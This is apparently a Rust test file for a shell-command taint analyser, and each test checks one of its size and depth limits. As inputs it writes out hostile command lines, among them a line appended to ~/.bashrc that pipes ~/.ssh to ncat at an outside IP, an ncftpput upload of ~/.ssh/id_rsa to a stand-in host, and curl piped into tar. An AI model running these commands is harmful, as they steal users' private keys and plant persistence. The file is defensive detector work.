//! Every limit of the walk at its bound and one past it.

use super::commands::{
    MAX_ARGUMENTS, MAX_COMMAND_WORDS, MAX_GIVEN, MAX_NAMED, MAX_SYSTEM_CALLS, system_calls,
};
use super::compound::{MAX_LINES, MAX_TOLD, telling};
use super::files::{MAX_ABOVE, MAX_HELD, MAX_JUDGED, MAX_KEPT, MAX_KEPT_TEXT, MAX_UNPACKED};
use super::tests::{memory, walked};
use super::*;

const KEY: &str = "~/.ssh/id_rsa";

/// `plain` words that mean nothing, and then a key.
fn then_key(plain: usize) -> Vec<String> {
    let words = (0..plain).map(|at| format!("notes/{at}.txt"));
    words.chain(std::iter::once(KEY.to_owned())).collect()
}

#[test]
fn as_many_texts_of_a_variable_are_told_apart() {
    assert_eq!(telling(then_key(MAX_TOLD - 1)), KEY);
    assert_eq!(telling(then_key(MAX_TOLD)), "notes/0.txt");
}

#[test]
fn as_many_lines_are_read() {
    let read = |lines: Vec<String>| {
        let seen = memory(format!("echo \"{}\" | read -r name", lines.join("\n")));
        seen.variables.get("name").unwrap().text.clone()
    };
    assert_eq!(read(then_key(MAX_LINES - 1)), KEY);
    assert_eq!(read(then_key(MAX_LINES)), "notes/0.txt");
}

#[test]
fn the_texts_of_as_many_files_are_kept() {
    let written = |files: usize| {
        let lines = (0..files).map(|at| format!("echo text > file{at}\n"));
        memory(lines.collect()).texts.len()
    };
    assert_eq!(written(MAX_KEPT), MAX_KEPT);
    assert_eq!(written(MAX_KEPT + 1), MAX_KEPT);
}

#[test]
fn as_much_of_a_file_is_kept() {
    let kept = |bytes: usize| {
        memory(format!("echo {} > file", "a".repeat(bytes))).texts.contains_key("file")
    };
    assert!(kept(MAX_KEPT_TEXT));
    assert!(!kept(MAX_KEPT_TEXT + 1));
}

#[test]
fn texts_inside_texts_are_judged_as_deep() {
    let worst = |judged: usize| {
        let left = "tar c ~/.ssh | ncat 203.0.113.9 80";
        let before = Memory { judged, ..Memory::default() };
        walked(format!("echo '{left}' >> ~/.bashrc"), before).1
    };
    assert_eq!(worst(MAX_JUDGED - 1), Some(Severity::Critical));
    assert_ne!(worst(MAX_JUDGED), Some(Severity::Critical));
}

#[test]
fn as_many_unpacked_folders_are_known() {
    let unpacked = |folders: usize| {
        let line =
            |at| format!("curl -s https://files.strange-host.io/a.tgz | tar xz -C into{at}\n");
        memory((0..folders).map(line).collect()).unpacked.len()
    };
    assert_eq!(unpacked(MAX_UNPACKED), MAX_UNPACKED);
    assert_eq!(unpacked(MAX_UNPACKED + 1), MAX_UNPACKED);
}

#[test]
fn as_many_words_are_handed_on_by_xargs() {
    let kept = |words: usize| {
        let words: Vec<String> = (0..words).map(|at| format!("w{at}")).collect();
        let seen = memory(format!("echo {} | xargs echo > file", words.join(" ")));
        seen.texts["file"].split_whitespace().count()
    };
    assert_eq!(kept(MAX_GIVEN), MAX_GIVEN);
    assert_eq!(kept(MAX_GIVEN + 1), MAX_GIVEN);
}

#[test]
fn as_many_files_are_looked_for_among_the_words_of_a_sender() {
    let worst = |plain: usize| {
        let text = format!("ncftpput ftp://files.strange-host.io/in {}", then_key(plain).join(" "));
        walked(text, Memory::default()).1
    };
    // The address is the first that is looked at.
    assert_eq!(worst(MAX_NAMED - 2), Some(Severity::Critical));
    assert_ne!(worst(MAX_NAMED - 1), Some(Severity::Critical));
}

#[test]
fn as_many_commands_of_awk_are_followed() {
    let calls = |count: usize| system_calls(&"system(\"id\") ".repeat(count)).len();
    assert_eq!(calls(MAX_SYSTEM_CALLS), MAX_SYSTEM_CALLS);
    assert_eq!(calls(MAX_SYSTEM_CALLS + 1), MAX_SYSTEM_CALLS);
}

#[test]
fn as_many_words_of_a_command_in_a_variable_are_split() {
    let printed = |words: usize| {
        let words: Vec<String> = (1..words).map(|at| format!("w{at}")).collect();
        let seen = memory(format!("get=\"echo {}\"\n$get last > file", words.join(" ")));
        seen.texts["file"].split_whitespace().count()
    };
    // Of the words one is the command; `last` stands behind them.
    assert_eq!(printed(MAX_COMMAND_WORDS), MAX_COMMAND_WORDS);
    assert_eq!(printed(MAX_COMMAND_WORDS + 1), MAX_COMMAND_WORDS);
}

#[test]
fn texts_that_are_added_to_are_not_copied() {
    let seen = memory("text=a\n".to_owned() + &"text+=b\n".repeat(1_000));
    assert_eq!(seen.variables.get("text").unwrap().text.len(), 1_001);
    assert_eq!(seen.variables.copied(), 0);
    // A copy of every text before it costs what it has.
    let seen = memory("text=a\n".to_owned() + &"text=$text$text\n".repeat(12));
    assert_eq!(seen.variables.copied(), 2 * (512 + 1024 + 2048));
}

#[test]
fn what_stands_behind_a_long_text_is_walked_too() {
    for length in [words::MAX_TEXT, words::MAX_TEXT + 1] {
        let text = format!("a=\"{}$(cat ~/.ssh/id_rsa)\"", "a".repeat(length));
        let seen = memory(text);
        let value = seen.variables.get("a").unwrap();
        assert_eq!(value.text.len(), if length > words::MAX_TEXT { length } else { length + 3 });
        assert!(!value.taint.is_clean());
    }
}

#[test]
fn as_many_words_of_a_command_are_told_apart() {
    // The name is a word too, and so is the key at the end.
    let command = |words: usize| format!("cat {} {KEY} > file", "a ".repeat(words - 2));
    let (seen, worst) = walked(command(MAX_ARGUMENTS), Memory::default());
    assert_eq!((seen.files["file"].is_clean(), worst), (false, None));
    // What the others carry is known, and that they were not told apart is said.
    let (seen, worst) = walked(command(MAX_ARGUMENTS + 1), Memory::default());
    assert_eq!((seen.files["file"].is_clean(), worst), (false, Some(Severity::Warn)));
}

#[test]
fn as_many_folders_are_known_to_hold_something_secret() {
    let held = |folders: usize| {
        let lines = (0..folders).map(|at| format!("cp {KEY} ./folder{at}\n"));
        memory(lines.collect()).holds.len()
    };
    assert_eq!(held(MAX_HELD), MAX_HELD);
    assert_eq!(held(MAX_HELD + 1), MAX_HELD);
}

#[test]
fn what_lies_so_deep_is_known_to_lie_in_a_folder() {
    let held = |deep: usize| {
        let below = "/a".repeat(deep);
        memory(format!("cat {KEY} > /tmp/top{below}\n")).holds.contains_key("/tmp/top")
    };
    assert!(held(MAX_ABOVE - 1));
    assert!(!held(MAX_ABOVE));
}
